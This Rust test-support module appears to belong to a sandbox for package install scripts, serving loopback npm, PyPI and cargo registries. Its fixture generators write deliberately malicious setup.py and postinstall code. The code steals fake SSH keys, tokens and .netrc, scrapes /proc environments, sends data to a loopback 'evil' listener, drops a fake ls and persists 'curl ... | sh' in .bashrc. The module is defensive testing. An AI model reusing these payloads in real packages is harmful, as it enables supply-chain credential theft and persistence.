//! Test support: package registries served on 127.0.0.1 by the tests
//! themselves, fixture packages built in memory (benign or deliberately
//! malicious), and isolated environments to run the real npm, pip and
//! cargo against them. Nothing here contacts a public registry.
//!
//! - [`registry`]: the HTTP server (routes, hit log) and a raw [`Listener`].
//! - [`npm`], [`pypi`], [`cargo`]: package builders and registry layouts.
//! - [`tools`]: [`Sandbox`], isolated HOME/caches/config for the real tools.
//! - [`gomod`]: a Go module proxy layout (untested: no go toolchain here).
//! - [`archive`], [`digest`]: tar/gzip/zip writers, sha1/sha2/base64.
//! - [`Registries`]: one server hosting all three under `/npm/`, `/pypi/`,
//!   `/cargo/`; [`shared`] gives one per test binary.
//!
//! Install-time fixture code writes a marker file; the `*_marker` helpers
//! build that code. It writes to `$FIXTURE_MARKER_DIR` when set (else to
//! npm's `INIT_CWD` / HOME), so tests can see whether it ran.

// Each test binary uses only part of this module.
#![allow(dead_code, unused_imports)]

pub mod archive;
pub mod cargo;
pub mod digest;
pub mod gomod;
pub mod guard;
pub mod npm;
pub mod pypi;
pub mod registry;
pub mod tools;

use std::sync::OnceLock;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

pub use self::cargo::{CargoRegistry, Crate, CratePublished};
pub use self::npm::{NpmPackage, NpmPublished, NpmRegistry};
pub use self::pypi::{PyPublished, PypiIndex, Sdist, SdistBackend, Wheel};
pub use self::registry::{Hit, HttpServer, Listener, Response, Route, ServerHandle};
pub use self::tools::Sandbox;

/// Environment variable naming where marker-writing fixture code writes.
pub const MARKER_DIR_ENV: &str = "FIXTURE_MARKER_DIR";

/// The publish/upload time fixtures get unless told otherwise:
/// 2020-01-01T00:00:00Z, old enough for any release-age cooldown.
pub fn default_published() -> SystemTime {
    UNIX_EPOCH + Duration::from_secs(1_577_836_800)
}

/// `now - days`, for "published yesterday" fixtures.
pub fn days_ago(days: u64) -> SystemTime {
    SystemTime::now() - Duration::from_secs(days * 86_400)
}

/// One server with an npm registry at `/npm/`, a simple index at
/// `/pypi/simple/` and a sparse cargo registry at `/cargo/`.
pub struct Registries {
    pub npm: NpmRegistry,
    pub pypi: PypiIndex,
    pub cargo: CargoRegistry,
    // Last, so the views are gone before the server stops.
    pub server: HttpServer,
}

impl Registries {
    pub fn start() -> Registries {
        let server = HttpServer::start();
        Registries {
            npm: NpmRegistry::new(server.handle(), "/npm"),
            pypi: PypiIndex::new(server.handle(), "/pypi"),
            cargo: CargoRegistry::new(server.handle(), "/cargo"),
            server,
        }
    }

    /// `http://127.0.0.1:PORT`
    pub fn base_url(&self) -> String {
        self.server.base_url()
    }

    /// `http://127.0.0.1:PORT/npm/` (for `--registry`).
    pub fn npm_url(&self) -> String {
        self.npm.url()
    }

    /// `http://127.0.0.1:PORT/pypi/simple/` (for `--index-url`).
    pub fn pypi_index_url(&self) -> String {
        self.pypi.index_url()
    }

    /// `sparse+http://127.0.0.1:PORT/cargo/`
    pub fn cargo_index_url(&self) -> String {
        self.cargo.index_url()
    }

    pub fn publish_npm(&self, pkg: &NpmPackage) -> NpmPublished {
        self.npm.publish(pkg)
    }

    pub fn publish_wheel(&self, w: &Wheel) -> PyPublished {
        self.pypi.publish_wheel(w)
    }

    pub fn publish_sdist(&self, s: &Sdist) -> PyPublished {
        self.pypi.publish_sdist(s)
    }

    pub fn publish_crate(&self, c: &Crate) -> CratePublished {
        self.cargo.publish(c)
    }

    pub fn hits(&self) -> Vec<Hit> {
        self.server.hits()
    }
}

/// One [`Registries`] per test binary, started on first use. Tests that
/// share it should use package names of their own and filter hits by path.
pub fn shared() -> &'static Registries {
    static SHARED: OnceLock<Registries> = OnceLock::new();
    SHARED.get_or_init(Registries::start)
}

/// Node code that writes marker `name` (contents `ran`).
pub fn js_marker(name: &str) -> String {
    format!(
        "const fs = require('fs'), path = require('path');\n\
         const dir = process.env.{MARKER_DIR_ENV} || process.env.INIT_CWD || process.cwd();\n\
         fs.writeFileSync(path.join(dir, {}), 'ran\\n');\n",
        serde_json::json!(name)
    )
}

/// Python build code (a `setup.py` body) that does what a malicious sdist
/// does: writes marker `marker`, sends the fake token in `~/.fake-token` to
/// the URL in `~/.exfil-url`, drops `~/bin/ls` and appends to `~/.bashrc`.
pub fn py_evil_build(marker: &str) -> String {
    format!(
        "{marker}\
         import os, urllib.request\n\
         _h = os.path.expanduser('~')\n\
         _url = open(os.path.join(_h, '.exfil-url')).read().strip()\n\
         _tok = open(os.path.join(_h, '.fake-token')).read().strip()\n\
         try:\n    urllib.request.urlopen(_url + '/py?t=' + _tok, data=_tok.encode(), timeout=5)\n\
         except Exception:\n    pass\n\
         os.makedirs(os.path.join(_h, 'bin'), exist_ok=True)\n\
         with open(os.path.join(_h, 'bin', 'ls'), 'w') as _f:\n    _f.write('#!/bin/sh\\necho pwned\\n')\n\
         os.chmod(os.path.join(_h, 'bin', 'ls'), 0o755)\n\
         with open(os.path.join(_h, '.bashrc'), 'a') as _f:\n    _f.write('curl ' + _url + '/rc | sh\\n')\n",
        marker = py_marker(marker),
    )
}

/// Python build code for the confinement tests: tries to read a fake
/// `~/.ssh/id_rsa`, send it to the loopback port in `~/.evil-port` straight
/// (a socket, no proxy) and through urllib (the proxy variables), write
/// `~/outside-marker`, append to `~/.bashrc`, write into the directory
/// named in `~/.victim-dir` (when there is one: another project's
/// virtualenv) and into its temp dir, read `~/.netrc`; what it could see
/// of secrets (its environment, its ancestors' command lines and environments,
/// the files listed in `~/.secret-paths`) goes into
/// `seen`; each attempt's outcome (`ok` or the error) goes into marker `name` as
/// JSON. It never fails the build itself.
pub fn py_confined_build(name: &str) -> String {
    r#"import os as _o, json as _j, socket as _s, tempfile as _t, urllib.request as _u
_h = _o.path.expanduser('~')
_r = {}
def _try(k, f):
    try:
        v = f()
        _r[k] = 'ok'
        return v or ''
    except Exception as e:
        _r[k] = type(e).__name__ + ': ' + str(e)[:200]
        return ''
_key = _try('ssh', lambda: open(_o.path.join(_h, '.ssh', 'id_rsa')).read())
_port = int(open(_o.path.join(_h, '.evil-port')).read().strip())
def _direct():
    c = _s.create_connection(('127.0.0.1', _port), timeout=5)
    c.sendall(b'POST /direct HTTP/1.0\r\nContent-Length: 3\r\n\r\nkey' + _key.encode())
    c.close()
_try('direct', _direct)
_try('proxied', lambda: _u.urlopen('http://127.0.0.1:%d/proxied' % _port, data=b'key' + _key.encode(), timeout=5).read())
_try('outside', lambda: open(_o.path.join(_h, 'outside-marker'), 'w').write('x'))
_try('bashrc', lambda: open(_o.path.join(_h, '.bashrc'), 'a').write('curl evil | sh\n'))
_try('tmp', lambda: open(_o.path.join(_t.gettempdir(), 'tmp-marker'), 'w').write('x'))
_try('netrc', lambda: open(_o.path.join(_h, '.netrc')).read())
def _seen():
    s = ' '.join(_o.environ.values())
    p = _o.getppid()
    for _ in range(12):
        try:
            s += ' ' + open('/proc/%d/cmdline' % p, 'rb').read().decode('utf-8', 'replace')
            try:
                s += ' ' + open('/proc/%d/environ' % p, 'rb').read().decode('utf-8', 'replace')
            except Exception:
                pass
            p = int(open('/proc/%d/stat' % p).read().rsplit(')', 1)[1].split()[1])
        except Exception:
            break
    return s
_r['seen'] = _seen()
_sp = _o.path.join(_h, '.secret-paths')
if _o.path.exists(_sp):
    for _p in open(_sp).read().split('\n'):
        if _p:
            try:
                _r['seen'] += ' ' + open(_p).read()
            except Exception:
                pass
_v = _o.path.join(_h, '.victim-dir')
if _o.path.exists(_v):
    _try('victim', lambda: open(_o.path.join(open(_v).read().strip(), 'pwned'), 'w').write('x'))
_d = _o.environ.get(ENV) or _h
with open(_o.path.join(_d, NAME), 'w') as _f:
    _f.write(_j.dumps(_r))
"#
    .replace("ENV", &serde_json::json!(MARKER_DIR_ENV).to_string())
    .replace("NAME", &serde_json::json!(name).to_string())
}

/// Sets up what [`py_confined_build`] attacks in `home` (a fake SSH key,
/// `~/.bashrc`, the port of `evil`, a listener no policy allows) .
pub fn py_confined_home(home: &std::path::Path, evil: &registry::Listener) {
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_rsa"), "FAKE-KEY-confined-s3cret").unwrap();
    if !home.join(".bashrc").exists() {
        std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
    }
    let port = evil
        .base_url()
        .rsplit(':')
        .next()
        .unwrap()
        .trim_end_matches('/')
        .to_string();
    std::fs::write(home.join(".evil-port"), port).unwrap();
}

/// The last `script` record of `records` is `package`'s approved build,
/// ended with 0 and confined ([`assert_py_confined`], with the build's
/// `report`); returns it.
pub fn assert_py_build_confined(
    what: &str,
    mut records: Vec<serde_json::Value>,
    package: &str,
    report: Option<String>,
    evil: &registry::Listener,
    home: &std::path::Path,
) -> serde_json::Value {
    let rec = records
        .pop()
        .unwrap_or_else(|| panic!("{what}: no script record"));
    assert_eq!(rec["package"], package, "{what}: {rec}");
    assert_eq!(rec["exit_code"], 0, "{what}: {rec}");
    assert_py_confined(what, report, evil, home, &rec);
    rec
}

/// The confined build's `report` does not hold the index's secret.
pub fn assert_secret_unseen(what: &str, report: Option<String>) {
    let report = report.unwrap_or_default();
    assert!(
        !report.contains(INDEX_SECRET),
        "{what}: the build saw the secret: {report}"
    );
}

/// Checks the outcome of an approved [`py_confined_build`] that ran
/// confined: its report (the marker's text) shows every attempt failed,
/// `evil` got nothing, nothing outside was written; and the build's
/// `script` record names the layers in force.
pub fn assert_py_confined(
    what: &str,
    report: Option<String>,
    evil: &registry::Listener,
    home: &std::path::Path,
    record: &serde_json::Value,
) {
    let report = report.unwrap_or_else(|| panic!("{what}: the approved build did not run"));
    let r: serde_json::Value = serde_json::from_str(&report).unwrap();
    for k in [
        "ssh", "netrc", "direct", "proxied", "outside", "bashrc", "victim",
    ] {
        assert_ne!(r[k], "ok", "{what}: `{k}` was allowed: {r}");
    }
    assert_eq!(r["tmp"], "ok", "{what}: its temp dir: {r}");
    assert_eq!(
        evil.connections().len(),
        0,
        "{what}: the listener was reached"
    );
    assert!(!home.join("outside-marker").exists(), "{what}");
    assert!(
        !std::fs::read_to_string(home.join(".bashrc"))
            .unwrap()
            .contains("evil"),
        "{what}"
    );
    let layers = record["sandbox"]["layers"].to_string();
    for l in [
        "env-scrub",
        "private-tmp",
        "landlock-fs",
        "landlock-net",
        "seccomp",
    ] {
        assert!(layers.contains(l), "{what}: no {l} in {record}");
    }
    let netns = std::process::Command::new("unshare")
        .args(["-Urn", "true"])
        .status()
        .is_ok_and(|s| s.success());
    if netns {
        assert!(layers.contains("\"netns\""), "{what}: no netns in {record}");
    }
}

/// Python code that writes marker `name` (contents `ran`).
pub fn py_marker(name: &str) -> String {
    format!(
        "import os as _os\n\
         _d = _os.environ.get({env}) or _os.path.expanduser('~')\n\
         with open(_os.path.join(_d, {n}), 'w') as _f:\n    _f.write('ran\\n')\n",
        env = serde_json::json!(MARKER_DIR_ENV),
        n = serde_json::json!(name)
    )
}

/// A complete `build.rs` that writes marker `name` (when
/// `$FIXTURE_MARKER_DIR` is set) and sets `cfg` `fixture_build_ran`.
pub fn rs_build_marker(name: &str) -> String {
    format!(
        "fn main() {{\n    \
         println!(\"cargo:rerun-if-env-changed={MARKER_DIR_ENV}\");\n    \
         println!(\"cargo:rustc-check-cfg=cfg(fixture_build_ran)\");\n    \
         println!(\"cargo:rustc-cfg=fixture_build_ran\");\n    \
         if let Ok(d) = std::env::var(\"{MARKER_DIR_ENV}\") {{\n        \
         std::fs::write(std::path::Path::new(&d).join({}), \"ran\\n\").unwrap();\n    \
         }}\n}}\n",
        serde_json::json!(name)
    )
}

/// `YYYY-MM-DDTHH:MM:SSZ`
pub fn rfc3339_secs(t: SystemTime) -> String {
    let (date, secs, _) = split_time(t);
    format!("{date}T{secs}Z")
}

/// `YYYY-MM-DDTHH:MM:SS.mmmZ` (npm's `time` map).
pub fn rfc3339_millis(t: SystemTime) -> String {
    let (date, secs, nanos) = split_time(t);
    format!("{date}T{secs}.{:03}Z", nanos / 1_000_000)
}

/// `YYYY-MM-DDTHH:MM:SS.ffffffZ` (PEP 700 `upload-time`).
pub fn rfc3339_micros(t: SystemTime) -> String {
    let (date, secs, nanos) = split_time(t);
    format!("{date}T{secs}.{:06}Z", nanos / 1_000)
}

fn split_time(t: SystemTime) -> (String, String, u32) {
    let d = t.duration_since(UNIX_EPOCH).expect("time before 1970");
    let s = d.as_secs();
    let (days, rem) = ((s / 86_400) as i64, s % 86_400);
    // Howard Hinnant's civil_from_days.
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    (
        format!("{year:04}-{month:02}-{day:02}"),
        format!("{:02}:{:02}:{:02}", rem / 3600, rem / 60 % 60, rem % 60),
        d.subsec_nanos(),
    )
}

// ---------------------------------------------------------------------------
// A private index that needs credentials.

pub const INDEX_USER: &str = "pw-user";
pub const INDEX_SECRET: &str = "s3cret-index-pw";

/// A loopback gate in front of the shared registry that answers `401`
/// unless the request has `INDEX_USER:INDEX_SECRET` basic credentials;
/// counts the requests it let through.
pub struct AuthGate {
    pub port: u16,
    pub passed: std::sync::Arc<std::sync::atomic::AtomicUsize>,
    /// TLS: the test CA's certificate (PEM) and the index's path prefix.
    tls: Option<(String, String)>,
}

impl AuthGate {
    /// Plain HTTP, in front of the shared `/pypi/` index.
    pub fn start() -> AuthGate {
        AuthGate::serve(None)
    }

    /// HTTPS (a certificate for 127.0.0.1 from a test CA, [`Self::ca_pem`]),
    /// in front of the index under `prefix` on the shared server; the
    /// absolute links of its pages point back at the gate.
    pub fn start_tls(prefix: &str) -> AuthGate {
        let (cfg, ca) = test_tls();
        let mut g = AuthGate::serve(Some(cfg));
        g.tls = Some((ca, prefix.trim_end_matches('/').to_string()));
        g
    }

    fn serve(tls: Option<std::sync::Arc<rustls::ServerConfig>>) -> AuthGate {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let upstream = shared()
            .base_url()
            .trim_start_matches("http://")
            .trim_end_matches('/')
            .to_string();
        // Links to the registry in the pages served over TLS: to the gate.
        let rewrite = tls.is_some().then(|| {
            (
                format!("http://{upstream}"),
                format!("https://127.0.0.1:{port}"),
            )
        });
        let passed = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let count = passed.clone();
        std::thread::spawn(move || {
            for c in l.incoming() {
                let Ok(c) = c else { continue };
                let (upstream, count, rewrite) = (upstream.clone(), count.clone(), rewrite.clone());
                let tls = tls.clone();
                std::thread::spawn(move || match tls {
                    None => gate_request(c, &upstream, &count, None),
                    Some(cfg) => {
                        let Ok(conn) = rustls::ServerConnection::new(cfg) else {
                            return;
                        };
                        let s = rustls::StreamOwned::new(conn, c);
                        gate_request(s, &upstream, &count, rewrite.as_ref());
                    }
                });
            }
        });
        AuthGate {
            port,
            passed,
            tls: None,
        }
    }

    /// The index URL through the gate.
    pub fn index(&self) -> String {
        match &self.tls {
            None => format!("http://127.0.0.1:{}/pypi/simple/", self.port),
            Some((_, prefix)) => format!("https://127.0.0.1:{}{prefix}/simple/", self.port),
        }
    }

    /// TLS: the test CA's certificate (PEM).
    pub fn ca_pem(&self) -> &str {
        self.tls.as_ref().map(|(c, _)| c.as_str()).unwrap_or("")
    }
}

/// One request through an [`AuthGate`]: `401` without the credentials,
/// else forwarded to `upstream` (one request per connection); with
/// `rewrite` (from, to), text and JSON bodies get `from` replaced.
fn gate_request<S: std::io::Read + std::io::Write>(
    mut c: S,
    upstream: &str,
    count: &std::sync::atomic::AtomicUsize,
    rewrite: Option<&(String, String)>,
) {
    use std::io::{Read, Write};
    let want = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(format!("{INDEX_USER}:{INDEX_SECRET}"))
    };
    let mut head = Vec::new();
    let mut b = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") && head.len() < 65536 {
        if c.read(&mut b).unwrap_or(0) == 0 {
            return;
        }
        head.push(b[0]);
    }
    let text = String::from_utf8_lossy(&head).into_owned();
    let ok = text.lines().any(|l| {
        l.split_once(':').is_some_and(|(k, v)| {
            k.eq_ignore_ascii_case("authorization") && v.trim() == format!("Basic {want}")
        })
    });
    if !ok {
        let _ = c.write_all(
            b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"pw\"\r\n\
              Content-Length: 0\r\nConnection: close\r\n\r\n",
        );
        let _ = c.flush();
        return;
    }
    count.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
    let mut lines: Vec<&str> = text
        .split("\r\n")
        .filter(|l| !l.is_empty())
        .filter(|l| {
            let l = l.to_ascii_lowercase();
            !l.starts_with("connection:")
                && !l.starts_with("keep-alive:")
                && !l.starts_with("accept-encoding:")
        })
        .collect();
    lines.push("Connection: close");
    let Ok(mut u) = std::net::TcpStream::connect(upstream) else {
        return;
    };
    let _ = u.write_all(format!("{}\r\n\r\n", lines.join("\r\n")).as_bytes());
    let Some((from, to)) = rewrite else {
        let _ = std::io::copy(&mut u, &mut c);
        return;
    };
    let mut resp = Vec::new();
    let _ = u.read_to_end(&mut resp);
    let Some(end) = resp.windows(4).position(|w| w == b"\r\n\r\n") else {
        return;
    };
    let head = String::from_utf8_lossy(&resp[..end]).into_owned();
    let mut body = resp[end + 4..].to_vec();
    let lower = head.to_ascii_lowercase();
    if lower.contains("html") || lower.contains("json") {
        body = String::from_utf8_lossy(&body)
            .replace(from, to)
            .into_bytes();
    }
    let mut out: Vec<String> = head
        .split("\r\n")
        .filter(|l| !l.to_ascii_lowercase().starts_with("content-length:"))
        .map(str::to_string)
        .collect();
    out.push(format!("Content-Length: {}", body.len()));
    let mut bytes = format!("{}\r\n\r\n", out.join("\r\n")).into_bytes();
    bytes.extend(body);
    let _ = c.write_all(&bytes);
    let _ = c.flush();
}

/// A test CA (its certificate in PEM) and a server configuration with a
/// certificate it issued for localhost / 127.0.0.1.
pub fn test_tls() -> (std::sync::Arc<rustls::ServerConfig>, String) {
    let ca_key = rcgen::KeyPair::generate().unwrap();
    let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    ca_params
        .distinguished_name
        .push(rcgen::DnType::CommonName, "pkgward test CA");
    let ca_cert = ca_params.self_signed(&ca_key).unwrap();
    let issuer = rcgen::Issuer::new(ca_params, ca_key);
    let key = rcgen::KeyPair::generate().unwrap();
    let params =
        rcgen::CertificateParams::new(vec!["localhost".to_string(), "127.0.0.1".to_string()])
            .unwrap();
    let cert = params.signed_by(&key, &issuer).unwrap();
    let provider = std::sync::Arc::new(rustls::crypto::ring::default_provider());
    let cfg = rustls::ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(
            vec![cert.der().clone()],
            rustls::pki_types::PrivateKeyDer::try_from(key.serialize_der()).unwrap(),
        )
        .unwrap();
    (std::sync::Arc::new(cfg), ca_cert.pem())
}

/// A `~/.netrc` with the gate's credentials.
pub fn auth_netrc() -> String {
    format!("machine 127.0.0.1 login {INDEX_USER} password {INDEX_SECRET}\n")
}

/// The packages `tests/scripts_dlx.rs` and `tests/scripts_pnpm_dlx_prepare.rs`
/// run with `pnpm dlx` (published once per test binary): `pw-dlx-cli`,
/// whose bin needs what its dependency `pw-dlx-native`'s postinstall
/// builds, with a malicious `pw-dlx-sneak` and an `esbuild`;
/// `pw-dlx-failcli` (its dependency's approved build fails);
/// `pw-dlx-boxcli` (its dependency builds inside its own directory).
pub fn pnpm_dlx_fixtures() {
    static DONE: OnceLock<()> = OnceLock::new();
    DONE.get_or_init(|| {
        let r = shared();
        // What the tool needs built; it also tries what it must not.
        r.publish_npm(
            &NpmPackage::new("pw-dlx-native", "1.0.0")
                .script("postinstall", "node build.js")
                .file(
                    "build.js",
                    format!(
                        "{}const os = require('os');\n\
                         let seen = 'key:';\n\
                         try {{ seen += fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'); }} catch (e) {{ seen += 'unreadable'; }}\n\
                         try {{ fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'native\\n'); seen += ' bashrc:written'; }} catch (e) {{ seen += ' bashrc:refused'; }}\n\
                         fs.appendFileSync(path.join(dir, 'dlx-native'), seen + '\\n');\n\
                         fs.writeFileSync(path.join(__dirname, 'built.txt'), 'native\\n');\n",
                        js_marker("dlx-native-ran")
                    ),
                ),
        );
        r.publish_npm(
            &NpmPackage::new("pw-dlx-sneak", "1.0.0")
                .script("postinstall", "node sneak.js")
                .file(
                    "sneak.js",
                    format!(
                        "{}const os = require('os'), http = require('http');\n\
                         const url = fs.readFileSync(path.join(os.homedir(), '.exfil-url'), 'utf8').trim();\n\
                         const req = http.request(url + '/key', {{ method: 'POST' }}, () => {{}});\n\
                         req.on('error', () => {{}}); req.end('x');\n\
                         fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'curl ' + url + ' | sh\\n');\n",
                        js_marker("dlx-sneak")
                    ),
                ),
        );
        // A name on bun's default trusted-dependencies list.
        r.publish_npm(
            &NpmPackage::new("esbuild", "0.99.0")
                .script("postinstall", "node x.js")
                .file("x.js", js_marker("dlx-esbuild")),
        );
        // An approved build that fails.
        r.publish_npm(
            &NpmPackage::new("pw-dlx-fails", "1.0.0")
                .script("postinstall", "node -e \"process.exit(7)\""),
        );
        r.publish_npm(
            &NpmPackage::new("pw-dlx-failcli", "1.0.0")
                .dep("pw-dlx-fails", "^1.0.0")
                .field("bin", serde_json::json!({"pw-dlx-failcli": "cli.js"}))
                .executable("cli.js", "#!/usr/bin/env node\nconsole.log('command ran');\n"),
        );
        // A dependency no `allow` entry names, built under `default =
        // "sandbox"` / audit mode: it writes inside its own directory, tries
        // a write outside and a loopback connection, and succeeds anyway.
        r.publish_npm(
            &NpmPackage::new("pw-dlx-boxed", "1.0.0")
                .script("postinstall", "node boxed.js")
                .file(
                    "boxed.js",
                    format!(
                        "{}const os = require('os'), http = require('http');\n\
                         fs.writeFileSync(path.join(__dirname, 'built.txt'), 'boxed\\n');\n\
                         let seen = '';\n\
                         try {{ fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'boxed\\n'); seen += 'bashrc:written'; }} catch (e) {{ seen += 'bashrc:refused'; }}\n\
                         const url = fs.readFileSync(path.join(os.homedir(), '.exfil-url'), 'utf8').trim();\n\
                         const done = (r) => fs.appendFileSync(path.join(dir, 'dlx-boxed'), seen + ' net:' + r + '\\n');\n\
                         const req = http.request(url + '/boxed', {{ method: 'POST', timeout: 5000 }}, (res) => {{ res.resume(); done('reached'); }});\n\
                         req.on('timeout', () => req.destroy(new Error('timeout')));\n\
                         req.on('error', () => done('refused')); req.end('x');\n",
                        js_marker("dlx-boxed-ran")
                    ),
                ),
        );
        r.publish_npm(
            &NpmPackage::new("pw-dlx-boxcli", "1.0.0")
                .dep("pw-dlx-boxed", "^1.0.0")
                .field("bin", serde_json::json!({"pw-dlx-boxcli": "cli.js"}))
                .executable(
                    "cli.js",
                    "#!/usr/bin/env node\n\
                     const fs = require('fs'), path = require('path');\n\
                     const dir = path.dirname(require.resolve('pw-dlx-boxed/package.json'));\n\
                     if (!fs.existsSync(path.join(dir, 'built.txt'))) { console.log('boxed missing'); process.exit(3); }\n\
                     console.log('boxed ok');\n",
                ),
        );
        r.publish_npm(
            &NpmPackage::new("pw-dlx-cli", "1.0.0")
                .dep("pw-dlx-native", "^1.0.0")
                .dep("pw-dlx-sneak", "^1.0.0")
                .dep("esbuild", "^0.99.0")
                .field("bin", serde_json::json!({"pw-dlx-cli": "cli.js"}))
                .executable(
                    "cli.js",
                    "#!/usr/bin/env node\n\
                     const fs = require('fs'), path = require('path');\n\
                     const dir = path.dirname(require.resolve('pw-dlx-native/package.json'));\n\
                     if (!fs.existsSync(path.join(dir, 'built.txt'))) { console.log('native missing'); process.exit(3); }\n\
                     console.log('native ok');\n",
                ),
        );
    });
}
